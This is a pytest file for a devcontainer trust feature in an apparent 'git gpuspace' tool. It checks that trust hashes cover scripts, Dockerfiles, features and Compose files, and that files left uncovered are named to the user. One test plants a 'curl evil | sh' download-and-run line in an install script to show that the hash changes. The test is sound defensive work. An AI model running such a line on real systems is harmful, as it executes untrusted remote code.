"""Trust covers what the trusted file runs: the devcontainer.json's whole folder (its Dockerfile,
the scripts and local features beside it) and the Dockerfile and features it names outside it.
What it uses that no hash covers (a build context outside the folder, a file outside it that a
command runs) is named to the user."""

from __future__ import annotations

import hashlib
import json
import os
import time

import tomli_w

from conftest import TEST_IMAGE
from helpers import commit_devcontainer, container_of

from git_gpuspace import trust


def not_trusted(result) -> list[str]:
    return [line for line in result.stderr.splitlines() if "is not trusted" in line]


def test_a_branch_that_changes_only_a_script_beside_the_file_is_untrusted_again(repo, tmp_path):
    commit_devcontainer(repo, json.dumps({"image": TEST_IMAGE, "postCreateCommand": "sh .devcontainer/setup.sh"}),
                        extra={".devcontainer/setup.sh": "touch /workspace/.ran-reviewed\n"})
    first = repo.ok("add", "-b", "first", str(tmp_path / "first"), "--gpus", "none", "--trust")
    assert not_trusted(first) == [] and (tmp_path / "first" / ".ran-reviewed").exists()

    # the same folder in another worktree: trusted
    same = repo.ok("add", "-b", "same", str(tmp_path / "same"), "--gpus", "none")
    assert not_trusted(same) == [] and (tmp_path / "same" / ".ran-reviewed").exists()

    # a branch that changes only the script the command runs: the devcontainer.json is the same bytes
    repo.git("checkout", "-q", "-b", "evil")
    repo.commit({".devcontainer/setup.sh": "touch /workspace/.ran-unreviewed\n"}, "only the script")
    repo.git("checkout", "-q", "main")
    evil = repo.ok("add", str(tmp_path / "evil"), "evil", "--gpus", "none")
    [notice] = not_trusted(evil)
    assert "postCreateCommand" in notice and f"git gpuspace trust {tmp_path / 'evil'}" in notice
    assert not (tmp_path / "evil" / ".ran-unreviewed").exists()
    assert not container_of(repo, "evil").exec_run(["test", "-e", "/workspace/.ran-unreviewed"]).exit_code == 0

    # what a record covers is listed
    [listed] = repo.ok("trust", "--list").stdout.splitlines()
    assert listed.endswith(f"{tmp_path / 'first' / '.devcontainer' / 'devcontainer.json'}  covers .devcontainer/ (2 files)")


def test_a_record_of_the_file_alone_no_longer_matches(repo, tmp_path):
    """A record made before trust covered the folder is of the file's bytes: the file is
    untrusted again, with the usual notice, and --list says why."""
    commit_devcontainer(repo, json.dumps({"image": TEST_IMAGE, "postCreateCommand": "touch /workspace/.ran"}))
    path = tmp_path / "old" / ".devcontainer" / "devcontainer.json"
    store = trust.store_path()
    store.parent.mkdir(parents=True, exist_ok=True)
    store.write_text(tomli_w.dumps({"trusted": [{
        "repo": str(repo.common_dir), "sha256": hashlib.sha256((repo.path / ".devcontainer/devcontainer.json").read_bytes())
        .hexdigest(), "path": str(path), "trusted": trust._dt.datetime(2025, 1, 2, 3, 4, tzinfo=trust._dt.timezone.utc)}]}))
    old = repo.ok("add", "-b", "old", str(tmp_path / "old"), "--gpus", "none")
    assert len(not_trusted(old)) == 1 and not (tmp_path / "old" / ".ran").exists()
    assert repo.ok("trust", "--list").stdout.splitlines() == [
        f"{hashlib.sha256(path.read_bytes()).hexdigest()[:12]}  2025-01-02 03:04  {path}  covers the file alone "
        f"(an older record: it no longer matches; trust the file again)"]
    trusted = repo.ok("trust", str(tmp_path / "old")).stdout
    assert "covering .devcontainer/ (1 file)" in trusted
    assert repo.ok("trust", "--list").stdout.splitlines()[1].endswith("covers .devcontainer/ (1 file)")


def test_what_the_file_uses_outside_its_folder_is_covered_or_named(repo, tmp_path, docker_client):
    commit_devcontainer(repo, json.dumps({
        "build": {"dockerfile": "../Dockerfile", "context": ".."},
        "postCreateCommand": "bash scripts/setup.sh && ./tools/x.sh --config=tools/x.toml; echo done",
        "postStartCommand": ["python3", "/workspace/train.py"],
    }), extra={"Dockerfile": f"FROM {TEST_IMAGE}\nLABEL unique=trust-{time.time_ns()}\n",
               "scripts/setup.sh": "true\n", "tools/x.sh": "true\n", "tools/x.toml": "", "train.py": "\n"})
    added = repo.ok("add", "-b", "a", str(tmp_path / "a"), "--gpus", "none")
    assert len(not_trusted(added)) == 1
    uncovered = ("trusting devcontainer.json covers .devcontainer/ (1 file) and ../Dockerfile, not what it also uses: "
                 "the build context .. (what the Dockerfile copies from it), scripts/setup.sh (named by "
                 "postCreateCommand), tools/x.sh (named by postCreateCommand), tools/x.toml (named by postCreateCommand), "
                 "train.py (named by postStartCommand); review those too (a change to them does not make it untrusted "
                 "again)")
    assert f"git-gpuspace: {uncovered}" in added.stderr.splitlines()

    trusted = repo.ok("trust", str(tmp_path / "a")).stdout.splitlines()
    assert "covering .devcontainer/ (1 file) and ../Dockerfile" in trusted[0] and trusted[-1] == f"Note: {uncovered}"

    # the Dockerfile it names outside the folder is covered: a branch that changes it is untrusted again
    repo.git("checkout", "-q", "-b", "docker")
    repo.commit({"Dockerfile": f"FROM {TEST_IMAGE}\nLABEL unique=other-{time.time_ns()}\n"}, "only the Dockerfile")
    repo.git("checkout", "-q", "main")
    changed = repo.ok("add", str(tmp_path / "docker"), "docker", "--gpus", "none")
    assert len(not_trusted(changed)) == 1
    images = {c.attrs["Config"]["Image"] for c in repo.containers()}
    for container in repo.containers():
        container.remove(force=True)
    for image in images:
        docker_client.images.remove(image, force=True)


def test_a_file_at_the_top_of_the_worktree_is_covered_with_what_it_names(tmp_path):
    worktree = tmp_path / "wt"
    (worktree / "feature").mkdir(parents=True)
    (worktree / "feature" / "install.sh").write_text("true\n")
    (worktree / "Dockerfile").write_text("FROM x\n")
    (worktree / "setup.sh").write_text("true\n")
    path = worktree / ".devcontainer.json"
    content = json.dumps({"build": {"dockerfile": "Dockerfile"}, "features": {"./feature": {}},
                          "onCreateCommand": "sh setup.sh"}).encode()
    path.write_bytes(content)
    covered = trust.coverage(path, content, worktree, worktree)
    assert covered.describe() == ".devcontainer.json alone and Dockerfile and ./feature"
    assert covered.uncovered == ("the build context . (what the Dockerfile copies from it)",
                                 "setup.sh (named by onCreateCommand)")
    (worktree / "unrelated.txt").write_text("not the file's\n")
    assert trust.coverage(path, content, worktree, worktree).sha256 == covered.sha256
    (worktree / "feature" / "install.sh").write_text("curl evil | sh\n")
    assert trust.coverage(path, content, worktree, worktree).sha256 != covered.sha256


def test_the_folder_hash_follows_no_link_and_reads_no_fifo(tmp_path):
    worktree = tmp_path / "wt"
    folder = worktree / ".devcontainer"
    folder.mkdir(parents=True)
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (folder / "zero").symlink_to("/dev/zero")
    (folder / "lib").symlink_to(tmp_path / "a")
    os.mkfifo(folder / "fifo")
    path = folder / "devcontainer.json"
    path.write_text("{}")
    started = time.monotonic()
    covered = trust.coverage(path, b"{}", worktree, worktree)
    assert time.monotonic() - started < 5 and covered.files == 4 and covered.describe() == ".devcontainer/ (4 files)"
    (folder / "lib").unlink()
    (folder / "lib").symlink_to(tmp_path / "b")  # a linked folder pointed elsewhere is a change
    assert trust.coverage(path, b"{}", worktree, worktree).sha256 != covered.sha256


def test_a_compose_file_outside_the_folder_is_covered(tmp_path):
    """A Compose-based file runs what its Compose files say: one of them outside the folder
    (`../docker-compose.yml`) is hashed with it, so a change to it is untrusted again."""
    worktree = tmp_path / "wt"
    (worktree / ".devcontainer").mkdir(parents=True)
    path = worktree / ".devcontainer" / "devcontainer.json"
    content = json.dumps({"dockerComposeFile": ["../docker-compose.yml", "extra.yml"], "service": "app"}).encode()
    path.write_bytes(content)
    (worktree / ".devcontainer" / "extra.yml").write_text("services: {}\n")
    compose = worktree / "docker-compose.yml"
    compose.write_text("services:\n  app:\n    image: a\n")
    before = trust.coverage(path, content, worktree, worktree)
    assert before.named == ("../docker-compose.yml",)  # extra.yml is in the folder, hashed with it
    assert "what its Compose files build, mount and read" in before.not_covered()
    compose.write_text("services:\n  app:\n    image: a\n    privileged: true\n")
    assert trust.coverage(path, content, worktree, worktree).sha256 != before.sha256
